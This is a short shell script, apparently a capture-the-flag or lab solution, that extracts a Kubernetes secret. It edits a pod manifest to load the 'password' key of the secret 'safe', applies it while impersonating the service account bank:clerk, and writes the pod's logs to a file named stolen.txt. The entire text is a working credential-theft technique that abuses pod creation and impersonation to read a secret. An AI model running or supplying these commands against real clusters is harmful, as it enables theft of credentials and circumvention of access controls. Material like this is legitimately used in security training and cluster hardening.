sed -i 's/value: "???"/valueFrom: {secretKeyRef: {name: safe, key: password}}/' borrow.yaml
kubectl apply -f borrow.yaml --as=system:serviceaccount:bank:clerk
sleep 8
kubectl -n bank logs borrow --as=system:serviceaccount:bank:clerk > stolen.txt
